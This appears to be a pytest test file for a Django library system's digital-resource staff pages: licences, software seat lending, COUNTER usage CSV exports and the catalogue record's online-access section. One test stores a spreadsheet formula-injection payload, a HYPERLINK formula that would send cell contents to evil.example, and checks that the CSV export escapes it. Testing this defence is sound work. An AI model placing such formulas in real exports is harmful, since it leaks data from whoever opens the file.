"""Staff pages for licences, seat lending and usage (with COUNTER CSV numbers); the OPAC record page's
"Online" section."""

import csv
import datetime
import io
import re

import pytest
from django.utils import timezone

from pustaka.digital.models import AccessEvent, Licence, SoftwareSeat

from .fixtures_access import *  # noqa: F403


def test_it_manager_creates_and_edits_a_licence_on_the_pages(client, it_manager, student_category):
    client.force_login(it_manager)
    response = client.post(
        "/staff/digital/licences/new/",
        {"name": "Lisensi Mahasiswa", "vendor": "ProQuest", "patron_categories": [student_category.pk],
         "ip_ranges": "10.0.0.0/8", "download_allowed": "on", "embargo_months": "0"},
    )  # fmt: skip
    licence = Licence.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/staff/digital/licences/{licence.pk}/"
    assert list(licence.patron_categories.all()) == [student_category]
    response = client.post(
        f"/staff/digital/licences/{licence.pk}/edit/",
        {"name": "Lisensi Mahasiswa", "ip_ranges": "bukan-ip", "embargo_months": "0"},
    )
    assert response.status_code == 200
    assert "is not an IP range in CIDR form" in response.content.decode()
    licence.refresh_from_db()
    assert licence.ip_ranges == "10.0.0.0/8"
    detail = client.get(f"/staff/digital/licences/{licence.pk}/").content.decode()
    assert "10.0.0.0/8" in detail and "Mahasiswa" in detail


def test_licence_list_shows_what_ends_soon(client, librarian, make_licence, django_assert_max_num_queries):
    today = timezone.localdate()
    make_licence("Segera Berakhir", ends_on=today + datetime.timedelta(days=10))
    for n in range(20):
        make_licence(f"Lisensi {n:02}", ends_on=today + datetime.timedelta(days=400))
    client.force_login(librarian)
    with django_assert_max_num_queries(14):
        response = client.get("/staff/digital/licences/")
    text = response.content.decode()
    assert response.status_code == 200
    expiring = text[text.index('id="expiring-title"') : text.index("</section>", text.index('id="expiring-title"'))]
    assert "Segera Berakhir" in expiring and "Lisensi 01" not in expiring
    assert "New licence" not in text  # librarians read, they do not write licences


@pytest.mark.parametrize(
    "path", ["/staff/digital/licences/", "/staff/digital/usage/", "/staff/digital/usage/tr_b1.csv"]
)
def test_desk_roles_and_patrons_cannot_see_licences_or_usage(client, make_staff, patron_user, path):
    assert client.get(path).status_code == 302  # anonymous: to the login page
    client.force_login(patron_user)
    assert client.get(path).status_code == 403
    client.force_login(make_staff("circulation"))
    assert client.get(path).status_code == 403


def test_librarians_cannot_create_licences(client, librarian):
    client.force_login(librarian)
    assert client.get("/staff/digital/licences/new/").status_code == 403
    assert client.post("/staff/digital/licences/new/", {"name": "X", "embargo_months": "0"}).status_code == 403
    assert not Licence.objects.exists()


def test_desk_lends_and_takes_back_a_seat(client, circulation, make_resource, make_licence, reader):
    software = make_resource(make_licence("SPSS", seats=1), kind="software")
    seat = SoftwareSeat.objects.create(resource=software, licence_key="KEY-1")
    first, second = reader("S1"), reader("S2")
    client.force_login(circulation)
    response = client.post("/staff/digital/seats/lending/", {"card_number": "s1", "resource": software.pk, "days": 7})
    assert response.status_code == 302
    seat.refresh_from_db()
    assert seat.patron == first.patron
    response = client.post("/staff/digital/seats/lending/", {"card_number": "S2", "resource": software.pk, "days": 7})
    assert response.status_code == 200 and "Every seat of" in response.content.decode()
    response = client.post("/staff/digital/seats/lending/", {"card_number": "NOPE", "resource": software.pk, "days": 7})
    assert "No patron has the card number" in response.content.decode()
    assert client.post(f"/staff/digital/seats/lending/{seat.pk}/return/").status_code == 302
    seat.refresh_from_db()
    assert seat.patron is None
    assert second.patron.software_seats.count() == 0


def test_patrons_cannot_use_the_seat_desk(client, patron_user, make_resource, make_licence):
    software = make_resource(make_licence("SPSS"), kind="software")
    seat = SoftwareSeat.objects.create(resource=software, licence_key="KEY-1")
    client.force_login(patron_user)
    assert client.get("/staff/digital/seats/lending/").status_code == 403
    assert client.post(f"/staff/digital/seats/lending/{seat.pk}/return/").status_code == 403


# Usage ----------------------------------------------------------------------------------------------


@pytest.fixture
def usage_events(resource, make_resource, licence, reader):
    tz = timezone.get_current_timezone()
    user = reader("U1")

    def event(res, when, action="view", granted=True, reason="", session="s"):
        AccessEvent.objects.create(resource=res, action=action, granted=granted, reason=reason, occurred_at=when,
                                   user=user if session == "u" else None, session_key=session)  # fmt: skip

    march = datetime.datetime(2026, 3, 3, 10, tzinfo=tz)
    april = datetime.datetime(2026, 4, 20, 15, tzinfo=tz)
    event(resource, march, session="a")
    event(resource, march + datetime.timedelta(minutes=10), session="a")  # same session and hour
    event(resource, march, "download", session="b")
    event(resource, april, session="u")
    event(resource, april, granted=False, reason="concurrency")
    event(resource, april, granted=False, reason="concurrency")
    event(resource, april, granted=False, reason="off_site")
    event(resource, april, granted=False, reason="login_required")  # not a COUNTER denial
    quiet = make_resource(licence)
    event(quiet, april, granted=False, reason="category")
    return resource, quiet


def _rows(text):
    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header_at = next(n for n, row in enumerate(lines) if row and row[0] == "Title")
    return lines[:header_at], lines[header_at], lines[header_at + 1 :]


def test_counter_title_requests_csv(client, it_manager, usage_events):
    resource, _quiet = usage_events
    client.force_login(it_manager)
    response = client.get("/staff/digital/usage/tr_b1.csv?first=2026-03&last=2026-04")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "TR_B1_2026-03_2026-04.csv" in response["Content-Disposition"]
    head, header, rows = _rows(response.content.decode("utf-8"))
    assert head[0] == ["Report_Name", "Title Requests"] and head[1] == ["Report_ID", "TR_B1"]
    assert ["Reporting_Period", "Begin_Date=2026-03-01; End_Date=2026-04-30"] in head
    assert header[-3:] == ["Reporting_Period_Total", "Mar-2026", "Apr-2026"]
    by_metric = {row[11]: row for row in rows}
    assert set(by_metric) == {"Total_Item_Requests", "Unique_Item_Requests"}
    assert by_metric["Total_Item_Requests"][0] == resource.record.title
    assert by_metric["Total_Item_Requests"][-3:] == ["4", "3", "1"]
    assert by_metric["Unique_Item_Requests"][-3:] == ["3", "2", "1"]


def test_counter_denials_csv(client, it_manager, usage_events):
    resource, quiet = usage_events
    client.force_login(it_manager)
    text = client.get("/staff/digital/usage/tr_b2.csv?first=2026-03&last=2026-04").content.decode("utf-8")
    _head, _header, rows = _rows(text)
    found = {(row[5], row[11]): row[-3:] for row in rows}
    assert found == {
        (f"pustaka:{resource.pk}", "Limit_Exceeded"): ["2", "0", "2"],
        (f"pustaka:{resource.pk}", "No_License"): ["1", "0", "1"],
        (f"pustaka:{quiet.pk}", "No_License"): ["1", "0", "1"],
    }


def test_usage_page_has_a_chart_and_the_numbers(client, librarian, usage_events, django_assert_max_num_queries):
    client.force_login(librarian)
    with django_assert_max_num_queries(14):
        response = client.get("/staff/digital/usage/?first=2026-03&last=2026-04")
    text = response.content.decode()
    assert response.status_code == 200
    assert "<svg" in text and text.count('class="bar-used"') == 2
    assert "03/26: 3 requests" in text
    assert "Too many readers at the same time" in text
    assert client.get("/staff/digital/usage/?first=bad").status_code == 200  # a bad month: the default period
    assert client.get("/staff/digital/usage/nope.csv").status_code == 404


def test_the_usage_chart_draws_in_indonesian_too(client, librarian, usage_events):
    client.force_login(librarian)
    text = client.get("/staff/digital/usage/?first=2026-03&last=2026-04", HTTP_ACCEPT_LANGUAGE="id").content.decode()
    svg = text[text.index("<svg") : text.index("</svg>")]
    # SVG numbers are never written with the Indonesian decimal comma (a comma breaks every bar)
    assert not re.search(r'(?:x|y|width|height)="\d+,\d', svg)
    assert re.search(r'class="bar-used" x="\d+(\.\d)?" y="\d+(\.\d)?"', svg)


# OPAC record page -----------------------------------------------------------------------------------


def test_record_page_offers_what_the_licence_allows(
    client, record, make_resource, open_licence, make_licence, make_file, django_assert_max_num_queries
):
    open_book = make_resource(open_licence)
    pdf = make_file(open_book, b"%PDF-1.4 a", "application/pdf", "buku.pdf")
    online_only = make_resource(make_licence("Online", is_open_access=True, download_allowed=False))
    epub = make_file(online_only, b"PK epub", "application/epub+zip", "buku.epub")
    closed = make_resource(make_licence("Tertutup"))
    make_file(closed, b"%PDF-1.4 c", "application/pdf", "tutup.pdf")
    with django_assert_max_num_queries(20):
        response = client.get(f"/record/{record.pk}/")
    text = response.content.decode()
    assert f"/digital/{open_book.pk}/read/{pdf.pk}/" in text
    assert f"/digital/{open_book.pk}/files/{pdf.pk}/download/" in text
    assert f"/digital/{online_only.pk}/read/{epub.pk}/" in text
    assert f"/digital/{online_only.pk}/files/{epub.pk}/download/" not in text
    assert "Read online only" in text
    assert 'data-reason="login_required"' in text and f"/help/ask/?record={record.pk}" in text
    assert "tutup.pdf" not in text
    assert not AccessEvent.objects.exists()  # showing buttons is not an access


def test_record_page_from_off_site_shows_the_reason(client, record, make_resource, make_licence, patron_user, patron):
    make_resource(make_licence("LAN", ip_ranges="10.0.0.0/8"))
    client.force_login(patron_user)
    text = client.get(f"/record/{record.pk}/", REMOTE_ADDR="203.0.113.9").content.decode()
    assert "Only available inside the library" in text and "Ask for help" in text
    text = client.get(f"/record/{record.pk}/", REMOTE_ADDR="10.1.1.1").content.decode()
    assert "Only available inside the library" not in text


@pytest.mark.parametrize(
    "query",
    ["first=0000-01", "last=9999-12", "first=0000-01&last=9999-12", "first=2026-13", "last=2026-00", "first=%00"],
)
def test_usage_page_treats_impossible_months_as_bad_months(client, librarian, usage_events, query):
    client.force_login(librarian)
    response = client.get(f"/staff/digital/usage/?{query}")
    assert response.status_code == 200
    this_month = timezone.localdate().replace(day=1)
    assert response.context["last"] == this_month  # the default period
    assert client.get(f"/staff/digital/usage/tr_b1.csv?{query}").status_code == 200


def test_usage_api_refuses_impossible_months(client, it_manager):
    client.force_login(it_manager)
    for query in ("last=9999-12", "first=0000-01", "first=1899-12"):
        assert client.get(f"/api/v1/usage?{query}").status_code == 400, query


def test_counter_csv_cells_are_never_formulas(client, it_manager, usage_events):
    resource, _quiet = usage_events
    record = resource.record
    record.title = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    record.publisher = "+62 Penerbit"
    record.save()
    resource.remote_url = "https://jurnal.example/-1"
    resource.save()
    client.force_login(it_manager)
    text = client.get("/staff/digital/usage/tr_b1.csv?first=2026-03&last=2026-04").content.decode("utf-8")
    _head, _header, rows = _rows(text)
    row = rows[0]
    assert row[0] == "'" + record.title
    assert row[1] == "'+62 Penerbit"
    assert row[9] == "https://jurnal.example/-1"  # only a leading character counts
    assert row[-3:] == ["4", "3", "1"]  # numbers stay numbers


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted(start):
    from pustaka.digital.queries_usage import safe_cell

    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Judul biasa") == "Judul biasa"
    assert safe_cell(-5) == -5
